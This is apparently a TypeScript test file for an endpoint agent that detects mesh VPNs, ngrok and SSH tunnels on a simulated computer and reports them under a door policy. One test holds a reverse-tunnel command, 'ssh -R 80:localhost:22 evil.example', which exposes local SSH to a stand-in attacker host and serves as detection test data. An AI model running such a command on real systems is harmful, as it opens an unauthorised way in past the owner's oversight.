import { noUnlistedPolicy, type UnlistedPolicy } from '@porchlight/contract/unlisted-protection.ts';
import { expect, it } from 'vitest';
import { type FakeOs, fakeOs } from '../os/fake/fake.ts';
import { agentForTest, serverForTest, type TestAgent } from '../testing/agent.ts';
import type { TestServer } from '../testing/server.ts';
import { until } from '../testing/until.ts';

const DAY_MS = 24 * 3_600_000;
const startMesh = (os: FakeOs, name: string, path = `/usr/sbin/${name}`) => os.start({ name, path });
const startTunnel = (os: FakeOs) => os.start({ name: 'ngrok' });
const names = (server: TestServer) => [...server.detections.values()].map(({ name }) => name).toSorted();

const set = async (server: TestServer, doors: UnlistedPolicy['doors']) => {
  server.setPolicy({ unlisted: { ...noUnlistedPolicy, doors } });
  await until('the policy', () => server.policy_in_force === server.policy.version);
};

async function computer(os: FakeOs) {
  const server = await serverForTest();
  const test = await agentForTest(server, { os });
  await test.linked();
  await set(server, 'alert');
  return { server, test };
}

/** The same computer after a boot: nothing runs, and the agent starts first. */
async function afterBoot(server: TestServer, test: TestAgent, days = 0) {
  await test.close();
  test.os.running.clear();
  test.clock.now = new Date(test.clock.now.getTime() + days * DAY_MS);
  return agentForTest(server, { os: test.os, folder: test.folder, clock: test.clock });
}

it('[P15.3] a mesh VPN that appears is reported once like a tunnel and goes on, and a mesh VPN from before the agent is not', async () => {
  const os = fakeOs();
  startMesh(os, 'zerotier-one');
  const { server, test } = await computer(os);
  const mesh = startMesh(os, 'tailscaled');
  await until('the report', () => server.detections.size === 1);
  expect([...server.detections.values()]).toMatchObject([
    { identifier: 'door-tunnel', category: 'Door', name: 'A tunnel (Tailscale)', details: '/usr/sbin/tailscaled', blocked: false },
  ]);
  expect(os.running).toContain(mesh);
  expect(os.opened).toEqual([]);
  startMesh(os, 'tailscaled');
  startMesh(os, 'zerotier-one');
  const again = await afterBoot(server, test);
  startMesh(os, 'tailscaled');
  startMesh(os, 'zerotier-one');
  startTunnel(os);
  await until('the report of the tunnel', () => server.detections.size === 2);
  expect(names(server)).toEqual(['A tunnel (Tailscale)', 'A tunnel (ngrok)']);
  await again.close();
});

it('[P15.3] a mesh VPN is reported again after more than 30 days without it, and from another folder at once; a mesh VPN that never was away is not', async () => {
  const os = fakeOs();
  startMesh(os, 'tailscaled');
  startMesh(os, 'netbird', '/usr/bin/netbird');
  const { server, test } = await computer(os);
  const later = await afterBoot(server, test, 29);
  startMesh(os, 'netbird', '/usr/bin/netbird');
  startMesh(os, 'tailscaled', '/home/ann/Downloads/tailscaled');
  await until('the report of the copy', () => server.detections.size === 1);
  const much = await afterBoot(server, later, 2);
  startMesh(os, 'netbird', '/usr/bin/netbird');
  startMesh(os, 'tailscaled', '/home/ann/Downloads/tailscaled');
  startMesh(os, 'tailscaled');
  await until('the report of the one that came back', () => server.detections.size === 2);
  expect([...server.detections.values()].map(({ details }) => details)).toEqual(['/home/ann/Downloads/tailscaled', '/usr/sbin/tailscaled']);
  await much.close();
});

it('[P15.3] a mesh VPN that appears while the policy ignores doors is reported once it no longer does', async () => {
  const os = fakeOs();
  const { server } = await computer(os);
  await set(server, 'ignore');
  startMesh(os, 'tailscaled');
  await set(server, 'alert');
  await until('the report', () => server.detections.size === 1);
  expect(names(server)).toEqual(['A tunnel (Tailscale)']);
});

it('[P15.3] an SSH client that opens a way in is reported like a tunnel, and a client that only goes out is not', async () => {
  const os = fakeOs();
  const { server } = await computer(os);
  const ssh = (...args: string[]) =>
    os.start({ name: 'ssh', command: { line: `ssh ${args.join(' ')}`, args, parents: ['bash'], pipeline: [] } });
  const [out, wayIn] = [ssh('ann@office.example.com'), ssh('-R', '80:localhost:22', 'evil.example')];
  startTunnel(os);
  await until('the reports', () => server.detections.size === 2);
  expect(names(server)).toEqual(['A tunnel (SSH)', 'A tunnel (ngrok)']);
  expect([os.running.has(out), os.running.has(wayIn)]).toEqual([true, true]);
});
